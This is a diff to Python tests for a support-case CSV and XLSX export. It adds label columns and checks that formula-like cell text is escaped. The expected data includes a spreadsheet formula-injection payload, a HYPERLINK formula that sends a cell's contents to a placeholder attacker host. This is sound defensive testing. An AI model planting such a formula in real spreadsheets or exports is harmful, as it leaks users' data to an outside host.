@@ -190,9 +190,13 @@ def test_csv_export_starts_with_a_bom_and_keeps_accents(manager, cases):
         "customer_id",
         "customer",
         "status",
+        "status_label",
         "priority",
+        "priority_label",
         "origin",
+        "origin_label",
         "topic",
+        "topic_label",
         "assignee",
         "opened_at",
         "first_response_due_at",
@@ -200,6 +204,7 @@ def test_csv_export_starts_with_a_bom_and_keeps_accents(manager, cases):
         "resolution_due_at",
         "resolved_at",
         "sla_state",
+        "sla_state_label",
         "breached",
         "reopen_count",
     ]
@@ -211,6 +216,7 @@ def test_csv_export_starts_with_a_bom_and_keeps_accents(manager, cases):
         "",
     )
     assert courier["opened_at"] == cases[2].opened_at.isoformat()
+    assert (courier["status_label"], courier["priority_label"]) == ("New", "High")
 
 
 def test_xlsx_export_has_the_same_rows(manager, cases):
@@ -240,7 +246,7 @@ def test_exported_text_that_looks_like_a_formula_stays_text(manager, export):
         rows = [[cell.value for cell in row] for row in sheet.iter_rows()][1:]
     else:
         rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))[1:]
-    cells = {(row[1], row[3], row[7]) for row in rows}
+    cells = {(row[1], row[3], row[10]) for row in rows}  # subject, customer, topic
     assert cells == {
         ("'@SUM(1+1)", '\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'-2+3"),
         ("-12.5", "+5511912345678", "+4"),
